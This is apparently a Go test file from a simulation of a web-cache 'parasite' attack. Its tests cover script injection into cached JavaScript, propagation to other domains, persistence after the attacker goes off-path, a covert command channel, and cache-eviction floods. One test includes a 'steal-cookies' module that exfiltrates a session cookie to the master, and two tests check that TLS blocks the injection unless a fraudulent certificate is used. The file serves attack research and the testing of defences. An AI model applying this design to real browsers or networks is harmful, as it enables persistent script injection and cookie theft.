package core

import (
	"strings"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// populateWeb installs the standard site population used across tests:
// somesite.com (initial infection vector) and three popular targets.
func populateWeb(s *Scenario) {
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, nil)
	s.AddPage("somesite.com", "/my.js", "function site(){return 1}", map[string]string{
		"Content-Type": "application/javascript", "Cache-Control": "max-age=600",
	})
	for _, d := range []string{"top1.com", "top2.com", "top3.com"} {
		s.AddPage(d, "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
		s.AddPage(d, "/persistent.js", "function lib(){} /* "+d+" */", map[string]string{
			"Content-Type": "application/javascript", "Cache-Control": "max-age=600",
		})
	}
}

// armMaster sets up the strain and infection targets for the standard
// population.
func armMaster(s *Scenario) *parasite.Config {
	cfg := parasite.NewConfig("p1", "bot-1", MasterHost)
	cfg.PropagationTargets = []string{"top1.com", "top2.com", "top3.com"}
	s.Registry.Add(cfg)
	for _, name := range []string{
		"somesite.com/my.js", "top1.com/persistent.js",
		"top2.com/persistent.js", "top3.com/persistent.js",
	} {
		s.Master.AddTarget(attacker.Target{
			Name: name, Kind: attacker.KindJS, ParasitePayload: "p1",
			Original: []byte("function original(){}"),
		})
	}
	return cfg
}

func TestInjectionInfectsCache(t *testing.T) {
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil // isolate the infection step

	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Scripts) == 0 {
		t.Fatal("no script executed")
	}
	if !script.Infected(page.Scripts[0].Content) {
		t.Fatal("victim executed the genuine script; injection lost the race")
	}
	e, ok := s.Victim.Cache().Get("somesite.com", "somesite.com/my.js")
	if !ok || !script.Infected(e.Response.Body) {
		t.Fatal("infected object not cached")
	}
	if cc := e.Response.Header.Get("Cache-Control"); !strings.Contains(cc, "max-age=31536000") {
		t.Fatalf("attacker cache headers lost: %q", cc)
	}
	if s.Master.Stats().Injections == 0 {
		t.Fatal("master recorded no injections")
	}
}

func TestReloadOriginalKeepsPageFunctional(t *testing.T) {
	// Fig. 2 steps 3-4: the parasite refetches the original with an
	// ignored query parameter, and the master lets that one through.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil

	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if s.Registry.Reloads() == 0 {
		t.Fatal("parasite did not reload the original")
	}
	// The cache-buster copy must be the *unmodified* original.
	found := false
	for _, url := range s.Victim.Cache().URLs() {
		if strings.HasPrefix(url, "somesite.com/my.js?t=") {
			found = true
			e, _ := s.Victim.Cache().Get("somesite.com", url)
			if script.Infected(e.Response.Body) {
				t.Fatal("reloaded original is infected; camouflage broken")
			}
		}
	}
	if !found {
		t.Fatal("no cache-busted original in cache")
	}
}

func TestPropagationInfectsOtherDomains(t *testing.T) {
	// §VI-B1 / Fig. 2 step 5: visiting one infected site cross-infects
	// the popular domains through iframes.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	armMaster(s)

	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"top1.com", "top2.com", "top3.com"} {
		e, ok := s.Victim.Cache().Get("somesite.com", d+"/persistent.js")
		if !ok {
			t.Fatalf("%s object not cached via propagation", d)
		}
		if !script.Infected(e.Response.Body) {
			t.Fatalf("%s object cached but not infected", d)
		}
	}
	origins := s.Registry.InfectedOrigins("bot-1")
	if len(origins) != 4 {
		t.Fatalf("infected origins = %v, want 4", origins)
	}
}

func TestParasitePersistsAfterLeavingNetwork(t *testing.T) {
	// §VI: the parasite survives the victim moving to another network —
	// later visits execute it from cache with no attacker on-path.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.LeaveAttackerNetwork()
	injBefore := s.Master.Stats().Injections

	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if !script.Infected(page.Scripts[0].Content) {
		t.Fatal("parasite gone after leaving the attacker's network")
	}
	if s.Master.Stats().Injections != injBefore {
		t.Fatal("master injected while off-path")
	}
}

func TestCNCRoundTripThroughCovertChannel(t *testing.T) {
	// Fig. 4: the master queues a command; the parasite (executing from
	// cache, attacker off-path) decodes it from image dimensions,
	// executes the module, and exfiltrates through img-src URLs.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	var gotParams string
	cfg.Modules["steal-cookies"] = func(env script.Env, params string, exfil parasite.Exfil) error {
		gotParams = params
		exfil("cookies", []byte("session="+env.Cookies(env.PageHost())))
		return nil
	}

	// Infect, then leave the network.
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.LeaveAttackerNetwork()
	s.Victim.Cookies().Set("somesite.com", "sid", "s3cr3t")

	// The master queues a command; next visit runs the parasite.
	s.CNC.QueueCommand("bot-1", []byte("steal-cookies|all"))
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if gotParams != "all" {
		t.Fatalf("module params = %q, want all", gotParams)
	}
	loot, ok := s.CNC.Upload("bot-1", "cookies")
	if !ok {
		t.Fatal("no exfiltrated stream at the master")
	}
	if !strings.Contains(string(loot), "sid=s3cr3t") {
		t.Fatalf("loot = %q", loot)
	}
	if s.Registry.Commands() != 1 {
		t.Fatalf("commands executed = %d", s.Registry.Commands())
	}
}

func TestCommandNotReExecuted(t *testing.T) {
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	runs := 0
	cfg.Modules["noop"] = func(script.Env, string, parasite.Exfil) error {
		runs++
		return nil
	}
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.CNC.QueueCommand("bot-1", []byte("noop|"))
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if runs != 1 {
		t.Fatalf("command ran %d times, want 1", runs)
	}
}

func TestEvictionFloodsVictimCache(t *testing.T) {
	// Fig. 1: cached objects of a popular domain are supplanted by the
	// junk flood so the next request goes to the network.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	s.AddPage("any.com", "/", `<html><body>benign</body></html>`, nil)

	// Prime: victim caches top1.com's object legitimately.
	if _, err := s.Visit("top1.com", "/"); err != nil {
		t.Fatal(err)
	}
	if !s.Victim.Cache().Contains("top1.com", "top1.com/persistent.js") {
		t.Fatal("priming failed")
	}

	// Flood enough junk to exceed the 320 MiB budget: 4 KiB objects ⇒
	// impractical count; instead verify mechanism with a focused flood
	// against a small logical budget by issuing a large junk count and
	// checking junk landed in cache and (for a small cache) the victim
	// object was supplanted. The Table I experiment uses purpose-sized
	// caches; here we exercise the full network path.
	s.Master.EnableEviction(JunkHost, 32, 4096, "any.com")
	if _, err := s.Visit("any.com", "/"); err != nil {
		t.Fatal(err)
	}
	if s.Master.Stats().EvictionScripts == 0 {
		t.Fatal("eviction script never injected")
	}
	junk := s.Victim.Cache().CountWhere(func(e *httpcache.Entry) bool {
		return strings.HasPrefix(e.URL, JunkHost+"/junk")
	})
	if junk != 32 {
		t.Fatalf("junk objects cached = %d, want 32", junk)
	}
}

func TestLastWinsAblationStillInfects(t *testing.T) {
	// Ablation: even under last-wins the injected response is delivered
	// first and consumed; the attack's true dependency is the race win
	// plus duplicate discard of already-delivered bytes.
	s, err := NewScenario(Config{ReassemblyPolicy: tcpsim.LastWins})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Scripts) == 0 {
		t.Fatal("no scripts")
	}
}

func TestTLSBlocksInfection(t *testing.T) {
	// §V Discussion: HTTPS defeats the injection (no fraudulent cert).
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	s.SetTLS("somesite.com", true)
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			t.Fatal("parasite delivered over TLS without a certificate")
		}
	}
	if s.Master.Stats().SealedSkipped == 0 {
		t.Fatal("master never saw sealed traffic")
	}
}

func TestFraudulentCertDefeatsTLS(t *testing.T) {
	s, err := NewScenario(Config{FraudulentCertHosts: []string{"somesite.com"}})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.PropagationTargets = nil
	s.SetTLS("somesite.com", true)
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	infected := false
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			infected = true
		}
	}
	if !infected {
		t.Fatal("fraudulent certificate did not enable TLS injection")
	}
	if s.Master.Stats().SealedDecrypted == 0 {
		t.Fatal("master never decrypted sealed traffic")
	}
}
